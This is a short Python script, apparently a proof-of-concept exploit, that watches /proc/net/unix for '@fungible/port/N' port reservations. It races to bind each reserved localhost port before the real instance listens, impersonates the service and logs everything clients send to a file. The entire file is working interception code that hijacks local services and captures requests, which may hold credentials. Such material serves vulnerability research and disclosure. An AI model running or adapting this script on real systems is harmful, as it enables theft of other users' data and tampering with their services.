"""Takes the ports that are chosen for instances before they listen there, and answers in their place.

grabber.py HOW NOTES: HOW is `each`, or `half` for every second one; what it is sent by clients goes to the file NOTES.
"""
import re, socket, sys, threading, time

how, notes = sys.argv[1], open(sys.argv[2], "ab", buffering=0)

def serve(listener):
    while True:
        client, _ = listener.accept()
        threading.Thread(target=answer, args=(client,), daemon=True).start()

def answer(client):
    with client:
        asked = client.recv(65536)
        if asked:
            notes.write(asked)
            client.sendall(b"HTTP/1.1 200 OK\r\nContent-Length: 6\r\nConnection: close\r\n\r\nstolen")

seen = set()
print("waiting", flush=True)
while True:
    for number in re.findall(r"@fungible/port/(\d+)", open("/proc/net/unix").read()):
        if number in seen:
            continue
        seen.add(number)
        if how == "half" and len(seen) % 2 == 0:
            continue
        listener = socket.socket()
        listener.setsockopt(socket.SOL_SOCKET, socket.SO_REUSEADDR, 1)
        try:
            listener.bind(("127.0.0.1", int(number)))
        except OSError:
            continue
        listener.listen(64)
        threading.Thread(target=serve, args=(listener,), daemon=True).start()
    time.sleep(0.0005)
